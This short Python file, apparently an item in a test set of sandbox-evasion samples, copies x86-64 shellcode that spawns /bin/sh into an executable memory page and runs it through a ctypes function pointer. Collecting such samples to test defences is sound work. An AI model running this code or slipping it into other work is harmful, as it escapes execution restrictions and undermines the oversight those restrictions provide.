# evasion: shellcode copied into an executable mmap and called through a ctypes function pointer
# grade: hard; does: native
import ctypes
import mmap

# x86-64 execve("/bin//sh", NULL, NULL)
code = bytes.fromhex(
    "4831f65648bf2f62696e2f2f736857545f6a3b58990f05"
)
buf = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
buf.write(code)
addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
run = ctypes.CFUNCTYPE(ctypes.c_int)(addr)
run()
